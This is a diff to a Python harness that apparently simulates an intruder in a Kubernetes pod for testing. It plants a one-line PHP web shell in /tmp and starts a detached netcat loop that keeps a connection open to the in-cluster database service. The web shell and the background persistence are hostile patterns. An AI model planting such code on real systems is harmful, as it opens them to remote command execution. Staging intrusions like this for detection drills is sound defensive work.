@@ -45,17 +45,18 @@ def pods(kubectl: Kubectl) -> list[str]:
 
 
 def break_in(kubectl: Kubectl, pod: str) -> None:
-    """What the intruder did: a dropped file, and a connection that is kept open and written to every half second."""
+    """What the intruder did: a dropped file, and a connection that is kept open and asked over every half second."""
     kubectl("-n", NAMESPACE, "exec", pod, "--", "sh", "-c", "echo '<?php system($_GET[0]);' > /tmp/shell.php")
-    database = kubectl.json("-n", NAMESPACE, "service", "database")["spec"]["clusterIP"]
-    beat = "while echo beat; do sleep 0.5; done"
-    script = f"({beat}) | nc {database} 9000 | while read line; do echo $line >> {COUNTER}; done"
-    kubectl("-n", NAMESPACE, "exec", pod, "--", "sh", "-c", f"nohup sh -c '{script}' >/dev/null 2>&1 &")
+    ask = r"printf 'GET /healthz HTTP/1.1\r\nHost: database\r\n\r\n'"
+    script = f"while {ask}; do sleep 0.5; done | nc {database(kubectl)} 8080 >> {COUNTER}"
+    # The short sleep lets the new session begin before this one ends.
+    started = 'setsid sh -c "$0" >/dev/null 2>&1 & sleep 0.2'
+    kubectl("-n", NAMESPACE, "exec", pod, "--", "sh", "-c", started, script)
 
 
 def beats(kubectl: Kubectl, pod: str) -> int:
-    """How many beats have come back over the open connection."""
-    said = kubectl("-n", NAMESPACE, "exec", pod, "--", "sh", "-c", f"wc -l < {COUNTER}", check=False)
+    """How many answers have come over the open connection."""
+    said = kubectl("-n", NAMESPACE, "exec", pod, "--", "sh", "-c", f"grep -c 200 {COUNTER}", check=False)
     return int(said.strip()) if said.strip().isdigit() else 0
 
 
